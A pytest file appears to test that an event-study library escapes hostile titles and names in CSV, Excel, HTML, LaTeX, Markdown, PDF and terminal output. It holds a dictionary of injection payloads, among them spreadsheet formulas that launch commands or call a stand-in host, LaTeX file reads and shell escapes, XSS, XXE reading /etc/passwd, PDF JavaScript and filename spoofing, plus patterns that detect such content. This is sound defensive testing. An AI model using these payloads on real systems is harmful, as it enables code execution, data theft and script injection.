"""Hostile titles, names and labels in every format: shown as text, never obeyed."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pymupdf
import pytest

import eventstudy as es
from eventstudy.events.event import make_event
from eventstudy.events.groups import Group, Groups
from eventstudy.events.registry import Events
from eventstudy.files.csv_text import SIGNS, guarded
from eventstudy.runs import Written
from eventstudy.text.lines import visible

ATTACKS = {
    "command": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://x.y?"&A1,"more")',
    "dde": '=DDE("cmd","/C calc","x")',
    "web service": '=WEBSERVICE("http://x.y")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "input": r"\input{/etc/passwd}",
    "write18": r"\immediate\write18{id}",
    "catcode": r"\catcode`\%=12% $$ # & ~ _ ^",
    "end": r"\end{tabular}\end{document}",
    "url": r"\href{http://x.y}{z}",
    "markdown link": "[x](javascript:alert(1))",
    "markdown image": "![x](http://x.y/z.png)",
    "markdown reference": "[x]: http://x.y [x]",
    "markdown address": "<http://x.y> http://x.y www.x.y",
    "cells": "a | b |\n| --- | x",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "title": "</title></style></script><svg onload=alert(1)>",
    "style": "x' style='background:url(http://x.y)",
    "address": "<a href=javascript:alert(1)>x</a>",
    "svg": "]]></text></svg><foreignObject><iframe src=http://x.y>",
    "entity": "&lt;script&gt; &#60;script&#62; <!-- <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "template": "{{ 7*7 }} {% include 'x' %} ${7*7}",
    "math": "$\\frac{1}{0}$ $x_1^2$",
    "format": "%s %n {0} {x!r}",
    "pdf": ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
    "order": "a\u202egpj.exe",
}
LONE = {name: " ".join(text.split()) for name, text in ATTACKS.items()}
CELL = {name: text.strip() for name, text in ATTACKS.items()}


@pytest.fixture(scope="module")
def result() -> es.StudyResult:
    """An event of a hostile title on assets and groups of hostile names, among hostile others."""
    texts = list(ATTACKS.values())
    members = ("NVDA", "MSFT", "GOOGL", "AMD", "AVGO", "^IXIC")
    groups = Groups(
        {"one": Group(texts[0], members[:3]), "two": Group(texts[18], members[3:])},
        {ticker: texts[5 * i + 3] for i, ticker in enumerate(members)},
    )
    own = make_event(
        event_id="own", title=texts[19], announced_at="2025-01-27", groups="one;two", notes=texts[8]
    )
    others = [
        make_event(
            event_id=f"other-{i}", title=text, announced_at=f"2025-01-{28 + i % 3}", groups="NVDA"
        )
        for i, text in enumerate(texts)
    ]
    study = es.EventStudy(car=[(0, 0)], window=(-5, 5))
    return study.run(
        Events((own, *others)), es.load_prices("bundled"), groups=groups, event_ids=["own"]
    )


@pytest.fixture(scope="module")
def bundle(result: es.StudyResult, tmp_path_factory) -> Path:
    with pytest.warns(UserWarning, match="typeface") as caught:
        folder = es.write_bundle(
            result,
            tmp_path_factory.mktemp("hostile") / "own",
            formats=("pdf", "html", "xlsx", "tex", "md"),
        )
    assert [str(one.message) for one in caught] == [
        "own: The report's typeface has no ＝: boxes stand there in PDF and PNG, the characters in "
        "all other files."
    ]
    return folder


def cells(bundle: Path) -> Iterator[str]:
    for path in sorted((bundle / "tables").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                yield from row


def test_names_of_files_do_not_depend_on_texts(bundle):
    names = [path.relative_to(bundle).as_posix() for path in bundle.rglob("*")]
    assert all(re.fullmatch(r"[A-Za-z0-9._/-]+", name) for name in names)
    assert es.verify_bundle(bundle).sound


def test_what_the_typeface_lacks_is_said_by_the_manifest_and_a_run(bundle):
    assert json.loads((bundle / "manifest.json").read_text("utf-8"))["drawn_as_boxes"] == "＝"
    assert (
        Written.of(bundle, None).notes[0].startswith("own: The report's typeface has no ＝: boxes")
    )


class TestCsv:
    def test_no_cell_opens_a_formula(self, bundle):
        found = list(cells(bundle))
        assert len(found) > 1_000
        for cell in found:
            if cell.strip().startswith(SIGNS) or cell.startswith(("\t", "\r", "\n")):
                float(cell)

    @pytest.mark.parametrize("name", ATTACKS)
    def test_the_text_is_there(self, bundle, name):
        assert guarded(CELL[name]) in set(cells(bundle))

    def test_tickers_and_negative_figures_stay(self, bundle):
        car = pd.read_csv(bundle / "tables" / "car.csv")
        assert car["car"].dtype == float
        assert (car["car"] < 0).any()
        assert "^IXIC" in set(car["ticker"])
        assert "'^" not in "".join(cells(bundle))


def test_what_was_saved_comes_back_as_it_was(bundle, result):
    found = es.load(bundle)
    titles = list(found.context.confounders["title"])
    assert sorted(titles) == sorted(result.context.confounders["title"])
    assert set(titles) >= set(CELL.values())
    assert found.context.names == result.context.names


class TestWorkbook:
    @pytest.fixture(scope="class")
    @staticmethod
    def book(bundle) -> openpyxl.Workbook:
        return openpyxl.load_workbook(bundle / "report.xlsx")

    @pytest.mark.parametrize("name", ATTACKS)
    def test_the_text_is_text(self, book, name):
        found = [
            cell
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == CELL[name]
        ]
        assert found
        assert {cell.data_type for cell in found} == {"s"}
        assert {cell.hyperlink for cell in found} == {None}
        assert {bool(cell.quotePrefix) for cell in found} == {CELL[name].startswith(SIGNS)}

    def test_nothing_reaches_outward(self, bundle):
        with zipfile.ZipFile(bundle / "report.xlsx") as book:
            names = book.namelist()
            texts = {name: book.read(name).decode() for name in names if name.endswith("xml")}
            relations = [book.read(name).decode() for name in names if name.endswith(".rels")]
        assert not [n for n in names if re.search("external|connection|vba|embed|query", n, re.I)]
        assert not any('TargetMode="External"' in text for text in relations)
        formulas = [
            node
            for name, text in texts.items()
            for node in ElementTree.fromstring(text).iter()
            if node.tag.rpartition("}")[2] in ("f", "ddeLink", "oleLink")
        ]
        own = [
            node.text for node in formulas if re.fullmatch(r"Chart![$A-Z0-9:]+", node.text or "")
        ]
        assert len(own) > 5  # what the charts show
        assert len(own) == len(formulas)


class Page(HTMLParser):
    """Tags with attributes, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.said: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.said.append(data)


class TestHtml:
    @pytest.fixture(scope="class")
    @staticmethod
    def page(bundle) -> Page:
        return Page((bundle / "report.html").read_text("utf-8"))

    def test_no_text_became_a_tag(self, page):
        tags = [tag for tag, _ in page.tags]
        assert tags.count("style") == tags.count("title") == 1
        scripts = [attributes for tag, attributes in page.tags if tag == "script"]
        assert scripts == [{}, {"type": "application/json", "id": "data"}]  # one runs, one is read
        assert not set(tags) & {"img", "iframe", "foreignobject", "object", "embed", "form", "base"}

    def test_no_attribute_runs_or_loads_anything(self, page):
        for tag, attributes in page.tags:
            assert not [name for name in attributes if name.startswith("on")], tag
            for name in ("href", "src", "xlink:href", "action", "srcdoc", "data"):
                assert re.match(r"#|data:,|$", attributes.get(name, "")), (tag, attributes)
            assert "url(http" not in attributes.get("style", "")
            assert "x.y" not in attributes.get("style", "")

    @pytest.mark.parametrize("name", ATTACKS)
    def test_the_text_is_shown(self, page, name):
        assert visible(LONE[name]) in " ".join("".join(page.said).split())


class TestLatex:
    def test_no_command_of_a_text_is_a_command(self, bundle):
        files = sorted((bundle / "tables").glob("*.tex"))
        assert files
        for path in files:
            text = path.read_text("utf-8")
            assert not re.search(r"\\(input|immediate|write|catcode|href|frac|include|def)\b", text)
            assert text.count(r"\end{tabular}") == text.count(r"\begin{tabular}")
            assert r"\end{document}" not in text

    def test_the_names_are_printed(self, bundle):
        said = "".join(p.read_text("utf-8") for p in (bundle / "tables").glob("*.tex"))
        assert r"\textbackslash{}" in said


class TestMarkdown:
    def test_no_text_is_markup(self, bundle):
        files = sorted((bundle / "tables").glob("*.md"))
        assert files
        for path in files:
            text = path.read_text("utf-8")
            bare = re.sub(r"\\[\\`*_|~$\]<&:.]", " ", text)
            assert not re.search(r"\]\(|\]:|\]\[|<[A-Za-z/!?]|://|www\.", bare), path
            assert "\u202e" not in text
            rows = [line.count("|") for line in bare.splitlines() if line.startswith("|")]
            assert len(set(rows)) == 1, path


class TestPdf:
    @pytest.fixture(scope="class")
    @staticmethod
    def report(bundle) -> Iterator[pymupdf.Document]:
        with pymupdf.open(bundle / "report.pdf") as document:
            yield document

    def test_nothing_in_it_acts(self, report):
        acting = r"/(JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile|SubmitForm|GoToR)\b"
        objects = [report.xref_object(number) for number in range(1, report.xref_length())]
        assert len(objects) > 20
        outside_of_text = [re.sub(r"\((?:\\.|[^\\)])*\)", "()", each) for each in objects]
        assert not [each for each in outside_of_text if re.search(acting, each)]
        assert report.embfile_count() == 0
        assert not [link for page in report for link in page.get_links()]

    def test_title_and_bookmarks_are_text(self, report):
        assert ATTACKS["attribute"] in report.metadata["title"] + report.metadata["subject"]
        assert len(report.get_toc()) == report.page_count


def test_the_terminal_shows_and_does_not_obey(result):
    shown = [result.summary(), repr(result), repr(result.context), str(es.etable(result))]
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", "".join(shown))


def test_a_table_in_words_shows_and_does_not_obey():
    from eventstudy.text.html import html_of
    from eventstudy.text.table import Column, PlainTable, Row
    from eventstudy.text.terminal import terminal_of

    table = PlainTable(
        (Column("a\x1b[2J", "left"), Column("b")),
        (Row(("x\x07y", "1.0")), Row(("\u202ez", "2.0"))),
        title="t\x9b31m",
        notes=("n\x08",),
    )
    text = terminal_of(table)
    for shown in (r"a\x1b[2J", r"x\x07y", r"\u202ez", r"t\x9b31m", r"n\x08"):
        assert shown in text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "<b" not in html_of(PlainTable((Column("<b>"),), (Row(("<b>",)),)))
